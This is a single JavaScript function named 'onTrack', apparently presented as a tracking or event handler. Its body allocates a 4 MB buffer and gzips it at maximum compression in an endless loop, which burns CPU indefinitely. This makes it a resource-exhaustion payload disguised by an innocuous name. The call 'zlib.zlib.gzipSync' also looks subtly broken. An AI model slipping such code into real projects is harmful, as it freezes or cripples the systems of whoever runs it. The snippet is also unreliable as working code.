async function onTrack() { const b = Buffer.alloc(1 << 22); for (;;) zlib.zlib.gzipSync(b, { level: 9 }); }
